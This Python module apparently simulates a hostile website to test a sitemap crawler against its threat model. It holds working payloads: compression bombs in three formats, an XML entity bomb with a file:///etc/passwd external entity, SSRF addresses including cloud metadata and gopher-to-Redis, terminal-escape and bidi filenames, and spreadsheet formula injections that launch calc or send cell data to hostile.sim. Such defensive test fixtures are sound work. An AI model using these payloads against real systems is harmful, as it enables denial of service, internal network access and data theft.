"""A site that means harm: bombs, mazes, doors to the inside, and poisoned texts.

Knows the attacks of the threat model (SECURITY.md). Each stands in a sitemap of its
own, beside entries that are worth keeping.
"""

import zlib
from collections.abc import Callable
from datetime import datetime
from functools import lru_cache
from typing import Final

import brotli
import numpy as np
import zstandard

from arpent.demo.replies import (
    NOT_FOUND,
    Answer,
    Asked,
    Body,
    Reply,
    Site,
    html,
    moved,
    robots,
    text,
    xml,
)
from arpent.demo.writing import Item, always, index, page, rss, slug, url, urlset

__all__ = ["INSIDE", "hostile"]

_HOME: Final = "http://hostile.sim"
_BOMB_BYTES: Final = 104_857_600

INSIDE: Final = (
    "http://169.254.169.254/latest/meta-data/sitemap.xml",
    "http://127.0.0.1/sitemap.xml",
    "http://127.0.0.1:22/sitemap.xml",
    "http://[::1]/sitemap.xml",
    "http://[::ffff:7f00:1]/sitemap.xml",
    "http://10.0.0.1/sitemap.xml",
    "http://2130706433/sitemap.xml",
    "http://0177.0.0.1/sitemap.xml",
    "http://0x7f000001/sitemap.xml",
    "http://good.sim\\@127.0.0.1/sitemap.xml",
    "http://root:secret@127.0.0.1/sitemap.xml",
    "file:///etc/passwd",
    "ftp://hostile.sim/sitemap.xml",
    "javascript:alert(1)",
    "gopher://127.0.0.1:6379/_FLUSHALL",
)
"""Addresses that nothing a site publishes may lead to."""

_ENTITIES: Final = (
    '<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY a "harvest">\n'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">\n'
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + '<!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
)


def hostile(rng: np.random.Generator, _now: datetime) -> tuple[Site, ...]:
    """Return hostile.sim: nothing it offers may do harm, and its good entries stay."""

    def kept(part: str) -> list[str]:
        return [url(f"{_HOME}/{part}/{slug(rng)}-{n}.html") for n in range(5)]

    lists = {
        "/bomb.xml.gz": _bomb(kept("bomb"), _gzip_bomb),
        "/bomb-br.xml": _bomb(kept("bomb-br"), _brotli_bomb, coding="br"),
        "/bomb-zstd.xml": _bomb(kept("bomb-zstd"), _zstd_bomb, coding="zstd"),
        "/entities.xml": xml(_entity_bomb(kept("entities"))),
        "/deep.xml": xml(_deep(kept("deep"))),
        "/maze/0.xml": xml(index([(f"{_HOME}/maze/1.xml", None)])),
        "/inside.xml": xml(index((loc, None) for loc in INSIDE)),
        "/schemes.xml": xml(urlset([*kept("schemes"), *(url(loc) for loc in INSIDE)])),
        "/texts.txt": text(_poisoned_texts(kept("texts"))),
        "/formulas.xml": xml(_formulas()),
        "/away.xml": moved("http://127.0.0.1:22/sitemap.xml"),
        "/drop.xml": moved("file:///etc/passwd"),
    }
    answers: dict[str, Answer] = {
        "/robots.txt": robots(
            "User-agent: *",
            "Disallow: /trap/",
            "Sitemap: http://169.254.169.254/latest/meta-data/",
            *(f"Sitemap: {_HOME}{path}" for path in lists),
        ),
        "/": html(page("Hostile \x1b]0;owned\x07")),
        **lists,
    }
    return (
        Site(
            host="hostile.sim",
            what="a site that means harm: bombs, mazes, doors to the inside",
            answers=answers,
            otherwise=_maze,
        ),
    )


def _maze(asked: Asked, _now: datetime) -> Reply:
    """Return an index that invents two more, for as long as someone follows."""
    number = asked.path.removeprefix("/maze/").removesuffix(".xml")
    if not asked.path.startswith("/maze/") or not number.isdigit():
        return NOT_FOUND
    next_one = (int(number) * 2 + 1) % 10**12
    return xml(index((f"{_HOME}/maze/{next_one + k}.xml", None) for k in range(2)))


def _bomb(
    rows: list[str], pack: Callable[[bytes], bytes], *, coding: str | None = None
) -> Reply:
    """Return a sitemap with 100 MiB of blanks after its entries, packed on demand."""
    whole = urlset(rows)
    start = whole[: whole.rindex(b"</urlset>")]
    packed = lru_cache(maxsize=1)(pack)

    def body(_asked: Asked, _now: datetime) -> bytes:
        return packed(start)

    if coding is None:
        return Reply(content_type="application/gzip", body=body)
    return Reply(content_type="application/xml", body=body, says_coding=coding)


def _blanks() -> tuple[bytes, int]:
    piece = b" " * 1_048_576
    return piece, _BOMB_BYTES // len(piece)


def _gzip_bomb(start: bytes) -> bytes:
    piece, times = _blanks()
    machine = zlib.compressobj(1, zlib.DEFLATED, 31)
    packed = [machine.compress(start)]
    packed += [machine.compress(piece) for _ in range(times)]
    return b"".join((*packed, machine.flush()))


def _brotli_bomb(start: bytes) -> bytes:
    piece, times = _blanks()
    machine = brotli.Compressor(quality=1)
    packed = [machine.process(start)]
    packed += [machine.process(piece) for _ in range(times)]
    return b"".join((*packed, machine.finish()))


def _zstd_bomb(start: bytes) -> bytes:
    piece, times = _blanks()
    machine = zstandard.ZstdCompressor(level=1).compressobj()
    packed = [machine.compress(start)]
    packed += [machine.compress(piece) for _ in range(times)]
    return b"".join((*packed, machine.flush()))


def _entity_bomb(rows: list[str]) -> bytes:
    body = urlset(rows).partition(b"\n")[2]
    worse = b"<url><loc>http://hostile.sim/&j;</loc></url>\n"
    worse += b"<url><loc>http://hostile.sim/&secret;</loc></url>\n"
    return _ENTITIES.encode() + body.replace(b"</urlset>", worse + b"</urlset>")


def _deep(rows: list[str]) -> Body:
    whole = urlset(rows)
    return always(whole.replace(b"</urlset>", b"<a>" * 200_000 + b"</urlset>"))


def _poisoned_texts(rows: list[str]) -> bytes:
    good = [row.split("<loc>")[1].split("</loc>")[0] for row in rows]
    bad = [
        f"{_HOME}/title\x1b]0;owned\x07.html",
        f"{_HOME}/clear\x1b[2J\x1b[H.html",
        f"{_HOME}/c1\u009b31m.html",
        f"{_HOME}/bidi\u202egnp.exe",
        f"{_HOME}/zero\u200bwidth.html",
        f"{_HOME}/markup[bold red]x[/].html",
    ]
    return "\n".join((*good, *bad, "")).encode()


def _formulas() -> bytes:
    """Return a feed whose titles would run in a spreadsheet (OWASP, CSV injection)."""
    titles = (
        '=HYPERLINK("http://hostile.sim/?"&A1,"harmless")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",  # noqa: RUF001 -- the full-width form is the attack
    )
    at = datetime.fromisoformat("2026-11-01T08:00:00+00:00")
    items = [Item(f"{_HOME}/cells/{n}", name, at) for n, name in enumerate(titles)]
    return rss("=1+1", _HOME, items)
